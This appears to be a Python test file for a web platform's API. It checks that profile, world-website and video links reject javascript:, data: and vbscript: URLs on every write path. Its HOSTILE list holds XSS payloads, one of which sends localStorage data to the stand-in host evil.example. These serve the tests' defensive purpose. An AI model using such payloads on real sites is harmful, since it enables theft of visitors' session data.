"""`javascript:` and other non-http(s) links are refused on write, wherever a link is stored.

The attack: a user stores `javascript:...` as their profile link (or a world's website, or an
object's video link); every visitor who clicks it runs that script in the node's origin.
"""

from __future__ import annotations

import uuid

import httpx
import pytest

from odyssey.core import ids
from odyssey.core.links import InvalidLink
from odyssey.core.permissions import AttributeScope
from odyssey.db.attributes import AttributeRef
from tests.api.api_harness import Api, Person

HOSTILE = [
    "javascript:fetch('//evil.example/?'+localStorage.getItem('odyssey'))",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
]


def refused(response: httpx.Response) -> bool:
    if response.status_code != 400:
        return False
    reason: str = response.json()["error"]["reason"]
    return reason == "invalid_link"


async def _profile_link(api: Api, person: Person) -> str | None:
    me = (await api.http.get("/api/v4/users/me", headers=person.headers)).json()
    link: str | None = me["profile"].get("profileLink")
    return link


async def test_profile_link_must_be_http(api: Api) -> None:
    ada = await api.person("Ada")
    for link in HOSTILE:
        response = await api.http.patch(
            "/api/v4/profile", headers=ada.headers, json={"profile": {"profileLink": link}}
        )
        assert refused(response), (link, response.text)
        assert "http" in response.json()["error"]["message"]
        assert await _profile_link(api, ada) is None
    ok = await api.http.patch(
        "/api/v4/profile",
        headers=ada.headers,
        json={"profile": {"profileLink": "https://ada.example/about"}},
    )
    assert ok.status_code == 200
    assert await _profile_link(api, ada) == "https://ada.example/about"
    # A refused link leaves the rest of the change undone too: nothing half-written.
    mixed = await api.http.patch(
        "/api/v4/profile",
        headers=ada.headers,
        json={"name": "Mallory", "profile": {"profileLink": "javascript:alert(1)"}},
    )
    assert refused(mixed)
    me = (await api.http.get("/api/v4/users/me", headers=ada.headers)).json()
    assert me["name"] == "Ada" and me["profile"]["profileLink"] == "https://ada.example/about"


async def test_guests_are_refused_the_same_way(api: Api) -> None:
    guest = await api.person("guest", guest=True)
    response = await api.http.patch(
        "/api/v4/profile",
        headers=guest.headers,
        json={"profile": {"profileLink": "javascript:alert(1)"}},
    )
    assert refused(response), response.text


async def test_world_website_link_must_be_http(api: Api) -> None:
    owner = await api.person("Owner")
    assert owner.user_id is not None
    world = (await api.services.worlds.create("Site", owner.user_id)).id
    attributes = f"/api/v4/objects/{world}/attributes"
    key = {"plugin_id": str(ids.CORE_PLUGIN_ID), "attribute_name": "website_link"}
    for link in HOSTILE:
        patched = await api.http.patch(
            f"/api/v4/worlds/{world}", headers=owner.headers, json={"website_link": link}
        )
        assert refused(patched), (link, patched.text)
        written = await api.http.post(
            attributes,
            headers=owner.headers,
            json={**key, "attribute_value": {"website_link": link}},
        )
        assert refused(written), (link, written.text)
        sub = await api.http.post(
            f"{attributes}/sub",
            headers=owner.headers,
            json={**key, "sub_attribute_key": "website_link", "sub_attribute_value": link},
        )
        assert refused(sub), (link, sub.text)
    details = (await api.http.get(f"/api/v4/worlds/{world}", headers=owner.headers)).json()
    assert details["website_link"] == ""
    good = await api.http.patch(
        f"/api/v4/worlds/{world}",
        headers=owner.headers,
        json={"website_link": "https://site.example"},
    )
    assert good.status_code == 200
    details = (await api.http.get(f"/api/v4/worlds/{world}", headers=owner.headers)).json()
    assert details["website_link"] == "https://site.example"
    # Other keys of the same value, and other attributes, are not links.
    note = await api.http.post(
        f"{attributes}/sub",
        headers=owner.headers,
        json={**key, "sub_attribute_key": "note", "sub_attribute_value": "javascript: is text"},
    )
    assert note.status_code == 202


async def test_object_video_link_must_be_http(api: Api) -> None:
    owner = await api.person("Owner")
    assert owner.user_id is not None
    world = (await api.services.worlds.create("Cinema", owner.user_id)).id
    screen = await api.new_object(world, "Screen")
    path = f"/api/v4/objects/{screen}/attributes"
    key = {"plugin_id": str(ids.VIDEO_PLUGIN_ID), "attribute_name": "state"}
    for field in ("youtube_url", "url"):
        for link in HOSTILE:
            response = await api.http.post(
                path, headers=owner.headers, json={**key, "attribute_value": {field: link}}
            )
            assert refused(response), (field, link, response.text)
    stored = await api.http.post(
        path,
        headers=owner.headers,
        json={**key, "attribute_value": {"youtube_url": "https://youtu.be/dQw4w9WgXcQ"}},
    )
    assert stored.status_code == 202


async def test_trusted_writes_are_checked_too(api: Api) -> None:
    """The services' own door (seed, CLI, plugins) refuses them as well."""
    world = await api.default_world()
    ref = AttributeRef(AttributeScope.OBJECT, ids.CORE_PLUGIN_ID, "website_link", object_id=world)
    with pytest.raises(InvalidLink):
        await api.services.attributes.set_value(ref, {"website_link": "javascript:alert(1)"})
    with pytest.raises(InvalidLink):
        await api.services.users.update_profile(uuid.uuid4(), {"profile_link": "data:,x"})
